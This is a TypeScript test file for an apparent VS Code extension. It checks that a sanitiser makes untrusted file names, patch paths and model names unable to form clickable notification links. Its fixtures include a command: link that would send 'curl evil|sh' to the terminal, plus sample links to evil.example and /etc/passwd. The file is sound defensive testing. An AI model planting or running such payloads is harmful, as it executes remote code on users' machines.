// Threat (issue 11, item 1): VS Code renders `[label](command:…)` in notification text as a link that
// runs the command; model patch paths, repository file names and repository-set model names reached
// notifications unescaped.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inertText, MAX_NOTIFICATION_CHARS } from '../../../src/security/inertText';

/** VS Code's notification link syntax (src/vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (text: string) => [...text.matchAll(VSCODE_LINK)].length;

const ATTACK = '[Open the file](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';

test('every untrusted source that reaches a notification is inert', () => {
  const untrusted = {
    'a model patch path': `cannot update ${ATTACK}.ts: no such file in the workspace`,
    'a repository file name': `src/${ATTACK}/x.ts is not sent to the model`,
    'a repository-set model name': `now using ${ATTACK} for interactive turns`,
    'an https link': 'see [docs](https://evil.example/x)',
    'a file link': '[readme](file:///etc/passwd)',
    'upper-case scheme': '[x](COMMAND:workbench.action.terminal.sendSequence)',
    'a label with spaces': '[click here to continue](command:x)',
  };
  for (const [source, text] of Object.entries(untrusted)) {
    assert.ok(links(text) > 0, `${source}: the sample must be a link before`);
    assert.equal(links(inertText(text)), 0, source);
  }
});

test('the text still reads the same: only an invisible break is added', () => {
  const safe = inertText(`Flowpair: cannot update ${ATTACK}`);
  assert.equal(safe.replaceAll('\u200b', ''), `Flowpair: cannot update ${ATTACK}`);
  assert.equal(inertText('plain text stays plain'), 'plain text stays plain');
});

test('line breaks, control and bidi characters are flattened; long text is cut', () => {
  assert.equal(inertText('a\nb\r\nc\u0007d'), 'a b c d');
  assert.equal(inertText('file\u202etxt.exe'), 'file txt.exe');
  const long = inertText('x'.repeat(5_000));
  assert.equal(long.length, MAX_NOTIFICATION_CHARS);
  // A cut can never leave half a link behind that becomes whole.
  assert.equal(links(inertText('x'.repeat(MAX_NOTIFICATION_CHARS - 3) + ATTACK)), 0);
});
